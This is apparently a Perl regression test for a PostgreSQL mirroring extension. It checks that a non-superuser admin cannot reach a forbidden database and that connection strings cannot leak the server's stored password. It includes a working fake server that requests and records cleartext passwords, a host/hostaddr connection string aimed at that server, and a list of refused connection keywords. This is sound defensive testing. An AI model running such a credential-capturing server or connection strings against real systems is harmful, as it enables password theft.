# 060_endpoint_security.pl: a non-superuser driftmirror_admin cannot reach,
# through any endpoint, data it could not read itself; connection strings
# cannot send the server's stored password elsewhere; routes carry no
# administration role; a missing passfile entry and a non-superuser
# connection role get messages that say what to do.
#
# Node A holds the control database (postgres), a database "secret" the
# admin may not even CONNECT to, and the primary "app"; node B holds the
# mirror "app" and, over TCP with SCRAM, a role "replicator".  The server
# of A takes passwords from the passfile named by PGPASSFILE in its
# environment (the test's own file, never a real ~/.pgpass).  A hostile
# server on 127.0.0.2 asks every client for a cleartext password and
# records what it gets.
use strict;
use warnings;

use IO::Socket::INET;
use POSIX ();
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use DmTest;

my $tmp = PostgreSQL::Test::Utils::tempdir();
my $passfile = "$tmp/server.pgpass";
my $captured = "$tmp/captured";
my $hostile_port = PostgreSQL::Test::Cluster::get_free_port();

# the passfile of A's server: a password for 127.0.0.1:<hostile_port>
# (a server nobody runs) that must never leave A
sub write_passfile
{
	my (@lines) = @_;
	open my $fh, '>', $passfile or die "passfile: $!";
	print $fh "$_\n" for @lines;
	close $fh;
	chmod 0600, $passfile;
}
write_passfile("127.0.0.1:$hostile_port:*:replicator:stored-secret-1");

my $a;
{
	local $ENV{PGPASSFILE} = $passfile;
	$a = dm_node('a', logical => 1);
}
my $b = dm_node('b', logical => 1, no_extension => 1,
	conf => "listen_addresses = '127.0.0.1'");
open my $hba, '>', $b->data_dir . '/pg_hba.conf' or die;
print $hba "local all all trust\nhost all all 127.0.0.1/32 scram-sha-256\n";
close $hba;
$b->reload;

my $super = $a->safe_psql('postgres', 'SELECT current_user');
my $sock = $a->host;
sub ep { my ($n, $db, $extra) = @_; return 'host=' . $n->host . ' port=' . $n->port . " dbname=$db user=$super" . ($extra // ''); }

# the hostile server: answers SSL/GSS requests with N, asks for a cleartext
# password, records it, refuses the login
my $hostile_pid = fork();
die "fork: $!" unless defined $hostile_pid;
if ($hostile_pid == 0)
{
	my $srv = IO::Socket::INET->new(LocalAddr => '127.0.0.2', LocalPort => $hostile_port,
		Listen => 5, ReuseAddr => 1) or POSIX::_exit(1);
	while (my $c = $srv->accept)
	{
		my $buf;
		while (1)
		{
			last unless read($c, $buf, 8) == 8;
			my ($len, $code) = unpack('NN', $buf);
			if ($len == 8 && ($code == 80877103 || $code == 80877104))
			{
				print $c 'N';
				$c->flush;
				next;
			}
			read($c, $buf, $len - 8);
			print $c pack('aNN', 'R', 8, 3);
			$c->flush;
			last unless read($c, $buf, 5) == 5;
			my ($t, $plen) = unpack('aN', $buf);
			read($c, $buf, $plen - 4);
			$buf =~ s/\0$//;
			open my $fh, '>>', $captured;
			print $fh "$buf\n";
			close $fh;
			my $err = "SFATAL\0C28P01\0Mno\0\0";
			print $c pack('aN', 'E', 4 + length $err) . $err;
			last;
		}
		close $c;
	}
	POSIX::_exit(0);
}
# wait until it listens
my $listening = 0;
for (1 .. 100)
{
	my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.2', PeerPort => $hostile_port);
	if ($s) { close $s; $listening = 1; last; }
	select(undef, undef, undef, 0.1);
}
ok($listening, 'the hostile server listens on 127.0.0.2');

sub captured { return -e $captured ? slurp_file($captured) : ''; }

# the data the admin must not reach
$a->safe_psql('postgres', 'CREATE DATABASE secret');
$a->safe_psql('secret', q{
	CREATE TABLE payroll (id int PRIMARY KEY, salary_of_ceo bigint NOT NULL);
	INSERT INTO payroll VALUES (1, 999999);
	CREATE SEQUENCE secret_seq;
	SELECT setval('secret_seq', 42);
});
$a->safe_psql('postgres', q{
	REVOKE CONNECT ON DATABASE secret FROM PUBLIC;
	CREATE ROLE eve LOGIN IN ROLE driftmirror_admin;
	CREATE DATABASE evil OWNER eve;
	CREATE DATABASE evil2 OWNER eve;
});
# evil: an empty database (a preflight would list what it lacks); evil2:
# the same table, ready to receive a copy
$a->safe_psql('evil2', 'CREATE TABLE payroll (id int PRIMARY KEY, salary_of_ceo bigint NOT NULL)');
$a->safe_psql('evil2', 'ALTER TABLE payroll OWNER TO eve');
my ($ret, $out, $err) = $a->psql('secret', 'SELECT 1', connstr => $a->connstr('secret') . ' user=eve');
isnt($ret, 0, 'eve cannot connect to the secret database herself');

# eve's statements, verbose errors
sub as_eve
{
	my ($sql) = @_;
	my ($r, $o, $e) = $a->psql('postgres', "\\set VERBOSITY verbose\nSET ROLE eve;\n$sql");
	return ($r, $o, $e);
}

$a->safe_psql('postgres', q{SELECT driftmirror.dm_create_group('g', '{"interval": "1s"}')});

# --- finding 1: the server's own socket as an endpoint
my $secret_ep = "host=$sock port=" . $a->port . " dbname=secret user=$super";
my $evil_ep = "host=$sock port=" . $a->port . " dbname=evil user=$super";
my $evil2_ep = "host=$sock port=" . $a->port . " dbname=evil2 user=$super";
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_add_resource('g', 'loot', 'postgres', '$secret_ep')");
like($err, qr/ERROR:  42501: permission denied to use this resource endpoint/,
	'an admin cannot name the server socket as a resource endpoint');
is($a->safe_psql('postgres', "SELECT count(*) FROM driftmirror.resource WHERE name = 'loot'"), '0',
	'nothing was added');

# a superuser registers the secret database (a resource of the group); eve
# still cannot mirror it into a database of her choice, and the preflight
# shows her nothing of its tables
$a->safe_psql('postgres', "SELECT driftmirror.dm_add_resource('g', 'sec', 'postgres', '$secret_ep')");
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_create_mirror('g', 'sec', '$evil_ep', '{\"fence\": false}')");
like($err, qr/ERROR:  42501: permission denied to use this mirror endpoint/,
	'an admin cannot mirror into an endpoint no superuser approved');
unlike($err, qr/payroll|salary_of_ceo/, 'the refusal shows no table or column of the secret database');
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_create_mirror('g', 'sec', 'host=127.0.0.1 port=1 dbname=evil', '{\"publisher_endpoint\": \"$evil_ep\"}')");
like($err, qr/ERROR:  42501: permission denied to use this (mirror|publisher) endpoint/,
	'nor through publisher_endpoint');
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_create_mirror('g', 'sec', '$evil2_ep', '{\"fence\": false}')");
like($err, qr/ERROR:  42501: permission denied to use this mirror endpoint/,
	'nor into a database of hers that is ready for a copy');
is($a->safe_psql('postgres', 'SELECT count(*) FROM driftmirror.mirror'), '0', 'no mirror was created');
# (were one created, let its copy finish before counting)
$a->poll_query_until('postgres',
	"SELECT count(*) = 0 OR bool_and(state IN ('mirroring', 'failed')) FROM driftmirror.dm_mirror_status");
is($a->safe_psql('evil2', 'SELECT count(*) FROM payroll'), '0', 'no secret row reached the admin\'s database');

# changing a superuser's resource to another endpoint is refused too
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_alter_resource('g', 'sec', endpoint => '$evil_ep')");
like($err, qr/ERROR:  42501:/, 'an admin cannot point a resource at an unapproved endpoint');

# --- a mirror a superuser made; eve may operate it while both endpoints are
# approved, not after an approval is revoked
for my $n ($a, $b)
{
	$n->safe_psql('postgres', 'CREATE DATABASE app');
	$n->safe_psql('app', 'CREATE TABLE orders (id int PRIMARY KEY, note text); CREATE SEQUENCE invoice_no;');
}
$a->safe_psql('app', "INSERT INTO orders SELECT g, 'o' || g FROM generate_series(1, 50) g; SELECT setval('invoice_no', 500);");
my ($ca, $cb) = (ep($a, 'app'), ep($b, 'app'));
$a->safe_psql('postgres', qq{
	SELECT driftmirror.dm_add_resource('g', 'db', 'postgres', '$ca');
	SELECT driftmirror.dm_create_mirror('g', 'db', '$cb');
});
$a->poll_query_until('postgres',
	"SELECT state IN ('mirroring', 'failed') FROM driftmirror.dm_mirror_status WHERE resource_name = 'db'");
is($a->safe_psql('postgres', "SELECT state FROM driftmirror.dm_mirror_status WHERE resource_name = 'db'"),
	'mirroring', 'the superuser\'s mirror is mirroring');
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_sync_sequences('g', 'db')");
is($ret, 0, 'eve syncs the sequences of a mirror whose endpoints a superuser set');
is($b->safe_psql('app', 'SELECT last_value FROM invoice_no'), '500', 'the mirror\'s sequence was set');

$a->safe_psql('app', "SELECT setval('invoice_no', 900)");
$a->psql('postgres', "SELECT driftmirror.dm_revoke_endpoint('$cb')");
($ret, $out, $err) = as_eve("SELECT driftmirror.dm_sync_sequences('g', 'db')");
like($err, qr/ERROR:  42501: permission denied to use this mirror endpoint/,
	'after the revocation eve cannot write the mirror\'s sequences');
is($b->safe_psql('app', 'SELECT last_value FROM invoice_no'), '500', 'the mirror\'s sequence is unchanged');
($ret, $out, $err) = as_eve("SELECT * FROM driftmirror.dm_mirror_verify('g', 'db')");
like($err, qr/ERROR:  42501: permission denied to use this mirror endpoint/,
	'nor read its tables through dm_mirror_verify');
($ret, $out, $err) = as_eve("SELECT * FROM driftmirror.dm_promote('g', 'db')");
like($err, qr/ERROR:  42501: permission denied to use this mirror endpoint/,
	'nor promote it');
is($a->safe_psql('postgres', 'SELECT count(*) FROM driftmirror.promotion'), '0', 'no promotion was started');

# --- routes: no administration role; clients add their own user=
$a->safe_psql('postgres', 'CREATE ROLE shop_client LOGIN');
my $route = $a->safe_psql('postgres', "SELECT driftmirror.dm_route('g', 'db', 'write')");
my $multi = $a->safe_psql('postgres', "SELECT driftmirror.dm_route_multihost('g', 'db')");
my $routes = $a->safe_psql('postgres', "SELECT string_agg(endpoint, ' ') FROM driftmirror.dm_routes");
unlike("$route | $multi | $routes", qr/user=/, 'routes carry no user=');
is($a->safe_psql('postgres', 'SELECT current_user', connstr => "$multi user=shop_client"),
	'shop_client', 'a client connects with the multi-host route and its own role');

# --- finding 4: hostaddr beside host sends the passfile's password elsewhere
my $steal = "host=127.0.0.1 hostaddr=127.0.0.2 port=$hostile_port dbname=app user=replicator";
($ret, $out, $err) = $a->psql('postgres',
	"\\set VERBOSITY verbose\nSELECT driftmirror.dm_create_mirror('g', 'sec', '$steal')");
like($err, qr/ERROR:  22023: an endpoint must not give both host and hostaddr/,
	'host with a different hostaddr is refused, even for a superuser');
# the worker's own connections refuse it too (a row written around the API)
($ret, $out, $err) = $a->psql('postgres',
	"\\set VERBOSITY verbose\nSELECT driftmirror._remote_value('$steal', 'n', 'SELECT 1')");
like($err, qr/ERROR:  22023: an endpoint must not give both host and hostaddr/,
	'the connection layer refuses it before connecting');
for my $kw ("passfile=$tmp/other.pgpass", 'service=prod', "sslkey=$tmp/k", "sslcert=$tmp/c",
	'sslpassword=x', "sslrootcert=$tmp/r", "options=''-c search_path=evil''", 'requirepeer=x')
{
	my ($name) = $kw =~ /^(\w+)/;
	($ret, $out, $err) = as_eve("SELECT driftmirror.dm_add_resource('g', 'k', 'postgres', 'host=127.0.0.2 port=$hostile_port dbname=app $kw')");
	like($err, qr/ERROR:  22023: connection string keyword "$name" is not allowed in an endpoint/,
		"keyword $name is refused");
}
# the metric collector's own connections refuse it too: a postgres metric
# source of a resource whose endpoint was written around the API
$a->safe_psql('postgres', qq{
	SELECT driftmirror.dm_add_resource('g', 'm', 'postgres', 'host=127.0.0.2 port=$hostile_port dbname=app user=replicator');
	UPDATE driftmirror.resource SET endpoint = '$steal' WHERE name = 'm';
	SELECT driftmirror.dm_add_metric_source('g', 'm', 'postgres', '{"timeout": "2s", "max_backoff": "2s"}');
});
dm_wait_for($a, "SELECT state = 'failing' FROM driftmirror.dm_metric_sources WHERE resource_name = 'm'",
	't', 'the collector polled the source and failed');
note('collector: ' . $a->safe_psql('postgres', "SELECT last_error FROM driftmirror.dm_metric_sources WHERE resource_name = 'm'"));
is(captured(), '', 'the hostile server received no password');

# --- issue 15: a login without a passfile entry gets a hint; a
# non-superuser connection role gets one clear sentence
$b->safe_psql('postgres', "CREATE ROLE replicator LOGIN REPLICATION PASSWORD 'replicator-pw'");
my $rep = 'host=127.0.0.1 port=' . $b->port . ' dbname=app user=replicator';
$a->safe_psql('postgres', "SELECT driftmirror.dm_add_resource('g', 'rep', 'postgres', '$rep')");
($ret, $out, $err) = $a->psql('postgres',
	"\\set VERBOSITY verbose\nSELECT driftmirror.dm_create_mirror('g', 'rep', '$ca')");
like($err, qr/fe_sendauth: no password supplied/, 'the login finds no password');
like($err, qr/HINT:  The server connects with the passfile of its operating system user "[^"]+": add a line host:port:database:user:password for this node to \Q$passfile\E, owned by that user with mode 0600/,
	'the hint names the passfile of the server');
write_passfile("127.0.0.1:$hostile_port:*:replicator:stored-secret-1",
	'127.0.0.1:' . $b->port . ':*:replicator:replicator-pw');
($ret, $out, $err) = $a->psql('postgres',
	"\\set VERBOSITY verbose\nSELECT driftmirror.dm_create_mirror('g', 'rep', '$ca')");
like($err, qr/node "g\/rep primary": the connection role replicator is not a superuser \(it has REPLICATION, which is not enough\); .*ALTER ROLE replicator SUPERUSER/,
	'a non-superuser connection role is reported first, with what to do');
unlike($err, qr/pg_read_all_settings|jsonb_build_object/, 'without the raw error or the remote SQL');

kill 'TERM', $hostile_pid;
waitpid($hostile_pid, 0);
$a->stop;
$b->stop;
done_testing();
